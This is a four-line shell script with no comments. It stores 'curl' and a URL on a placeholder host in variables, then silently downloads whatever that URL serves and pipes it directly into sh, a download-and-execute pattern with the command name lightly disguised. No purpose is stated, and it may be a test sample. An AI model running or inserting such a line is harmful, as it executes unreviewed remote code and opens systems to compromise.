#!/bin/sh
c=curl
u=https://x.example.invalid/c
$c -s $u | sh
